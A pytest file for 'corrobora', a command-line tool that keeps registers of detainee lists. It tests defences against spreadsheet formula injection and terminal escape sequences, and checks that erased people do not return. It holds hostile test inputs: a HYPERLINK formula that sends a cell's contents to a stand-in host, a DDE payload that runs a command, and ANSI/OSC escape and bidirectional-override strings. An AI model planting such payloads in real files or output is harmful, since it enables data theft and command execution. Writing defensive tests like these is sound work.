"""Lists as somebody writes them who wants to run formulas, steer a terminal, bring somebody back.

And lists as tired people write them: mended twice, taken in twice, with a person to be forgotten.
"""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest
from typer.testing import CliRunner

from corrobora.cli.app import app
from tests.unit.cli.hostile import steers

OURS = ("--list", "Held", "--compiler", "Valley Watch", "--kind", "monitor", "--status", "held")
DAY = ("--closed", "2026-05-01", "--yes")
FORMULAS = [
    '=HYPERLINK("http://lum.example/?"&A1,"Ana")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "＝1+1",  # noqa: RUF001 - a wide sign, which spreadsheets take too
]
EVIL = "Ana\x1b[31m \x1b]0;title\x07Brask\u202egnil"


def run(*args):
    return CliRunner().invoke(app, [str(a) for a in args])


def call(*args, code=0):
    result = run(*args)
    assert result.exit_code == code, (result.output, result.stderr, result.exception)
    return result.stdout


def ask(*args, code=0):
    return json.loads(call(*args, "--format", "json", code=code))


def write(path, rows):
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def is_live(cell):
    return cell.lstrip("'")[:1] in tuple("=+-@\t\r＝＋－＠") and not cell.startswith("'")  # noqa: RUF001


# --- formulas -------------------------------------------------------------------------------------


@pytest.fixture
def formulas(tmp_path):
    """A list whose cells are formulas, with a bad date in each row, so that all are written out."""
    rows = [["No", "Name", "Date of arrest", "Prison"]]
    rows += [[n, f"Ana Brask {SECOND[n]}", "31/31/2026", f] for n, f in enumerate(FORMULAS)]
    rows += [[50 + n, f"{f} Lum", "32/32/2026", "Tarn"] for n, f in enumerate(FORMULAS)]
    rows += [[100 + n, f"Rosa Vell {chr(97 + n) * 2}", "2026-01-03", "Tarn"] for n in range(24)]
    return write(tmp_path / "may.csv", rows)


def test_no_formula_is_live_in_the_file_of_bad_rows(tmp_path, formulas):
    register = tmp_path / "r.db"
    done = ask("list", "import", formulas, "-r", register, *OURS, *DAY, code=3)
    assert len({one["row"] for one in done["bad"]}) >= 2 * len(FORMULAS)
    text = (tmp_path / "may.csv.bad-rows.csv").read_text("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len([cell for cell in cells if "HYPERLINK" in cell]) == 2
    assert [cell for cell in cells if is_live(cell)] == []


def test_the_register_holds_a_formula_as_the_list_wrote_it(tmp_path, formulas):
    register = tmp_path / "r.db"
    ask("list", "import", formulas, "-r", register, *OURS, *DAY, code=3)
    shown = ask("list", "show", "held", "-r", register)
    assert FORMULAS[0] in {one["site"] for one in shown["acts"]}


def test_no_formula_is_live_in_the_sheet_of_the_review(tmp_path):
    register, sheet = tmp_path / "r.db", tmp_path / "sheet.csv"
    names = ["=HYPERLINK Ana Brask", "=HYPERLINK Ana Braske", "@SUM Omar Lum", "@SUM Omar Lumm"]
    file = write(tmp_path / "may.csv", [["Name", "Prison"], *([n, FORMULAS[0]] for n in names)])
    call("list", "import", file, "-r", register, *OURS, *DAY)
    done = run("review", "-r", register, "--export", sheet)
    assert done.exit_code == 0, (done.output, done.exception)
    cells = [c for row in csv.reader(io.StringIO(sheet.read_text("utf-8-sig"))) for c in row]
    assert [cell for cell in cells if is_live(cell)] == []


# --- what steers a terminal ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def steered(tmp_path_factory):
    tmp_path = tmp_path_factory.mktemp("steered")
    rows = [
        ["Name", "Date of arrest", "Status", "Prison", "Source", f"Note {EVIL}"],
        [EVIL, "2026-01-03", "held", f"Tarn {EVIL}", f"family {EVIL}", EVIL],
        [f"Omar {EVIL}", f"31/31 {EVIL}", f"held {EVIL}", "Tarn", EVIL, "x"],
        ["Rosa Vell", "2026-01-03", "held", "Tarn", "", ""],
    ]
    register = tmp_path / "r.db"
    file = write(tmp_path / "may.csv", rows)
    run("list", "import", file, "-r", register, *OURS, *DAY)
    june = write(tmp_path / "june.csv", [rows[0], rows[3], [f"Iva {EVIL}", *rows[1][1:]]])
    run("list", "import", june, "-r", register, "--closed", "2026-06-01", "--list", "Held")
    return register


@pytest.mark.parametrize(
    "args",
    [
        ("list", "versions"),
        ("list", "diff", "held"),
        ("list", "diff", "held", "--most", "0"),
        ("list", "show", "held"),
        ("list", "show", "held", "--version", "1"),
        ("status",),
        ("why", "Rosa Vell"),
    ],
)
def test_nothing_of_a_list_steers_the_terminal(steered, args):
    assert steers(call(*args, "-r", steered)) == set()


@pytest.mark.parametrize("more", [("--dry-run",), ()])
def test_an_import_shows_hostile_cells_without_their_marks(tmp_path, more):
    file = write(
        tmp_path / "may.csv", [["Name", f"Prison {EVIL}"], [EVIL, EVIL], ["Omar Lum", "x"]]
    )
    done = run("list", "import", file, "-r", tmp_path / "r.db", *OURS, *DAY, *more)
    assert done.exit_code in {0, 3}, (done.output, done.exception)
    assert steers(done.stdout) == set()
    assert steers(done.stderr) == set()


def test_a_hostile_name_in_an_error_is_shown_without_its_marks(steered):
    done = run("list", "show", f"nobody {EVIL}", "-r", steered)
    assert done.exit_code != 0
    assert steers(done.stdout) == set()


# --- an article that looks like the text of a list ------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        """corrobora-list: 1
list: Freed
compiler: Ministry | kind: state
names: given_first
column: Name | means: name
column: State | means: status
row: 2 | Name: Ana Brask | State: released
""",
        "corrobora-list: 1\nnonsense\n",
        "corrobora-list: 1\nlist: x\ncompiler: y | kind: emperor\nnames: z\nrow: ² | Name: q\n",
    ],
)
def test_an_article_cannot_pass_itself_off_as_a_list(tmp_path, text):
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "a.txt").write_text(text, "utf-8")
    register = tmp_path / "r.db"
    done = run("run", folder, "-r", register, "--format", "json")
    assert done.exit_code in {0, 3}, (done.output, done.exception)
    assert ask("list", "versions", "-r", register)["versions"] == []
    assert [p for p in ask("status", "-r", register)["persons"] if p["act"] == "release"] == []
    assert "The register is sound" in call("doctor", "-r", register)


# --- mending --------------------------------------------------------------------------------------

SECOND = ["Quist", "Pell", "Fisk", "Arv", "Voss", "Rann", "Ord", "Dall"]
BAD = [
    ["No", "Name", "Date of arrest"],
    ["1", "Ana Brask", "31/31/2026"],
    ["2", "Omar Lum", "32/32/2026"],
    *([str(n), f"Iva Tarn {second}", "2026-01-03"] for n, second in enumerate(SECOND, 3)),
]


def mend(path, *pairs):
    text = path.read_text("utf-8-sig")
    for bad, good in pairs:
        assert bad in text
        text = text.replace(bad, good)
    path.write_text(text, "utf-8")


def test_rows_that_are_mended_one_by_one_stay_mended(tmp_path):
    """Who mends half of the rows and imports finds the mended half still in the file."""
    register, bad_rows = tmp_path / "r.db", tmp_path / "may.csv.bad-rows.csv"
    file = write(tmp_path / "may.csv", BAD)
    ask("list", "import", file, "-r", register, *OURS, *DAY, code=3)
    mend(bad_rows, ("31/31/2026", "2026-01-05"))
    again = ("list", "import", file, "-r", register, "--closed", "2026-05-01", "--mended", bad_rows)
    done = ask(*again, code=3)
    assert {one["row"] for one in done["bad"]} == {3}
    mend(bad_rows, ("32/32/2026", "2026-01-06"))
    done = ask(*again)
    assert done["bad"] == []
    days = {
        one["name"]: one["date"]
        for one in ask("list", "show", "held", "-r", register)["acts"]
        if one["act"] == "arrest"
    }
    assert (days["Ana Brask"], days["Omar Lum"]) == ("2026-01-05", "2026-01-06")


def test_a_question_that_is_answered_no_leaves_no_files_behind(tmp_path):
    file = write(tmp_path / "may.csv", BAD)
    done = CliRunner().invoke(
        app, ["list", "import", str(file), "-r", str(tmp_path / "r.db"), *OURS], input="n\n"
    )
    assert done.exit_code != 0
    assert [path.name for path in tmp_path.iterdir()] == ["may.csv"]


# --- forgetting -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def erased(tmp_path_factory):
    """Somebody who was on two versions of a list in two spellings of case, and was erased."""
    tmp_path = tmp_path_factory.mktemp("erased")
    register = tmp_path / "r.db"
    head = ["No", "Name", "Date of arrest", "Prison", "Note"]
    may = [
        head,
        ["1", "Ana Brask", "2026-01-03", "Tarn", "shares a cell with Omar Lum"],
        ["2", "Omar Lum", "2026-01-09", "Tarn", ""],
    ]
    june = [head, [*may[1][:4], ""], ["2", "OMAR LUM", "2026-01-09", "Lum Jail", ""]]
    for name, rows, day in (("may", may, "2026-05-01"), ("june", june, "2026-06-01")):
        file = write(tmp_path / f"{name}.csv", rows)
        run("list", "import", file, "-r", register, *OURS, "--closed", day, "--yes")
    call("erase", "Omar Lum", "--why", "he asked for it", "-r", register)
    return register, may


@pytest.fixture
def forgotten(erased, tmp_path):
    register, rows = erased
    shutil.copy(register.with_name("may.csv"), tmp_path)
    return shutil.copy(register, tmp_path / "r.db"), rows


def everything(register):
    return "\n".join(
        call(*args, "-r", register, "--format", "json")
        for args in (
            ("list", "show", "held", "--version", "1"),
            ("list", "show", "held", "--version", "2"),
            ("list", "versions"),
            ("list", "diff", "held"),
            ("status",),
        )
    )


def test_who_is_erased_stands_in_no_row_and_no_note(forgotten):
    register, _ = forgotten
    text = everything(register)
    assert "omar" not in text.lower()
    assert "Ana Brask" in text
    assert "The register is sound" in call("doctor", "-r", register)


def test_who_is_erased_is_no_question_about_somebody_who_vanished(forgotten):
    register, _ = forgotten
    assert ask("list", "diff", "held", "-r", register)["vanished"] == []
    assert ask("list", "versions", "-r", register)["questions"] == []


@pytest.mark.parametrize("name", ["omar lum", "Omar lum", "Lum, Omar", "Omár  Lúm"])
def test_who_is_erased_does_not_come_back_with_a_later_version(tmp_path, forgotten, name):
    register, rows = forgotten
    july = write(tmp_path / "july.csv", [*rows[:1], [*rows[1][:4], ""], ["2", name, *rows[2][2:]]])
    run("list", "import", july, "-r", register, "--closed", "2026-07-01", "--list", "Held")
    text = call("list", "show", "held", "-r", register, "--format", "json").lower()
    assert "omar" not in text
    assert "ana brask" in text
    assert ask("list", "diff", "held", "-r", register)["vanished"] == []


def test_the_very_file_does_not_bring_the_erased_back(tmp_path, forgotten):
    register, _ = forgotten
    run("list", "import", tmp_path / "may.csv", "-r", register, "--closed", "2026-05-01")
    assert "omar" not in everything(register).lower()


def test_a_backup_of_it_holds_nobody_who_was_erased(tmp_path, forgotten, monkeypatch):
    register, _ = forgotten
    monkeypatch.setenv("CORROBORA_PASSPHRASE", "seven grey herons wade")
    call("backup", tmp_path / "b.crbr", "-r", register)
    call("restore", tmp_path / "b.crbr", "-r", tmp_path / "again.db")
    again = everything(tmp_path / "again.db")
    assert again == everything(register)
    assert "The register is sound" in call("doctor", "-r", tmp_path / "again.db")
